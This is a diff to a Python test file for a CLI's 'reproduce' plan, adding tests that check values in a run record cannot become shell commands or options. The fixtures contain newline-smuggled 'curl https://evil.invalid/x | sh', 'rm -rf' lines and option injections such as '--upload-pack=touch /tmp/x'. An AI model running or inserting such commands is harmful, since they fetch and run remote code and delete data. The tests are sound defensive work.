@@ -157,6 +157,9 @@ def test_a_hostile_origin_is_never_used(
         MatrixOrigin(repository="--upload-pack=touch /tmp/x", commit=commit, path="m.yaml"),
         MatrixOrigin(repository="https://example.invalid/r", commit="HEAD", path="m.yaml"),
         MatrixOrigin(repository="https://example.invalid/r", commit=commit, path="../../m"),
+        # Overlong: a command line nobody reads before pasting.
+        MatrixOrigin(repository="https://example.invalid/" + "r" * 5000, commit=commit, path="m"),
+        MatrixOrigin(repository="https://example.invalid/r", commit=commit, path="m/" * 2000),
     ):
         write_record(run_dir / "run.json", record.model_copy(update={"matrix_origin": origin}))
         argv = ["reproduce", record.run_id, "--results", str(results)]
@@ -195,6 +198,78 @@ def test_a_session_is_reproduced_by_its_own_ab_line(
         == 0
     )
     assert f"--cell {base_id}" in capsys.readouterr().out
+
+
+def test_record_text_never_leaves_its_line_and_only_a_commit_is_installed(
+    recorded: tuple[Path, Path, str],
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """The plan is pasted whole (its notes are `# ` comments): a run.json's text with a line
+    break made a line of its own, a command; and the pipx line installed any ref the record
+    named (pip fetches refs/pull/N/head: a stranger's pull request)."""
+    results, run_dir, _commit = recorded
+    record = load_run(run_dir)
+    env = record.environment.model_copy(
+        update={
+            "iomatrix_image": "img\ncurl https://evil.invalid/x | sh",
+            "iomatrix_commit": "refs/pull/666/head",
+            "qemu": "8.2\nrm -rf ~/qemu",
+        }
+    )
+    kernels = {
+        spec: info.model_copy(update={"release": "6.1\nrm -rf ~/release"})
+        for spec, info in record.kernels.items()
+    }
+    assert kernels
+    hostile = record.model_copy(update={"environment": env, "kernels": kernels})
+    write_record(run_dir / "run.json", hostile)
+    for columns in ("200", "60"):
+        monkeypatch.setenv("COLUMNS", columns)
+        assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
+        out = capsys.readouterr().out
+        starts = [line.lstrip().split(" ")[0] for line in out.splitlines()]
+        assert "curl" not in starts, out
+        assert "rm" not in starts, out
+        pipx = [line for line in out.splitlines() if line.lstrip().startswith("pipx")]
+        assert not [line for line in pipx if "refs/" in line]
+        assert "refs/pull/666/head" in out  # said, as the record's, in a note
+    assert cli.main(["reproduce", "latest", "--run", "--results", str(results)]) == 2
+    err = capsys.readouterr().err
+    assert "the result was made by refs/pull/66: install that one and run" in err
+    assert "pipx" not in err
+    assert "iomatrix: qemu: recorded 8.2\\u000arm -rf ~/qemu, here" in err
+
+
+def test_a_recorded_matrix_path_is_never_an_option(
+    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Without a recorded repository the plan names the run's matrix file as it was recorded:
+    a run.json's `--allow-tree=/` became an option of the pasted `iomatrix run` line."""
+    results, run_dir, _commit = recorded
+    record = load_run(run_dir)
+    hostile = record.model_copy(update={"matrix_origin": None, "matrix_source": "--allow-tree=/"})
+    write_record(run_dir / "run.json", hostile)
+    assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    words = [w for line in lines if not line.lstrip().startswith("#") for w in line.split()]
+    assert "--allow-tree=/" not in words
+    assert "./--allow-tree=/" in words
+
+
+def test_a_recorded_word_with_a_line_break_is_no_command_line(
+    recorded: tuple[Path, Path, str], capsys: pytest.CaptureFixture[str]
+) -> None:
+    """A command's word from a record (its shard, a cell id, a session's metric pattern) is
+    quoted, so pasted whole it stays one word; but a line break inside the quotes showed a line
+    that reads as a command of its own, for a reader who copies that line."""
+    results, run_dir, _commit = recorded
+    record = load_run(run_dir)
+    write_record(run_dir / "run.json", record.model_copy(update={"shard": "1/2\ncurl x.invalid"}))
+    assert cli.main(["reproduce", "latest", "--results", str(results)]) == 0
+    lines = capsys.readouterr().out.splitlines()
+    assert not [line for line in lines if "curl" in line and not line.lstrip().startswith("#")]
+    assert [line for line in lines if line.lstrip().startswith("# ") and "curl" in line]
 
 
 def test_a_band_too_wide_to_say_much_is_said_to_be() -> None:
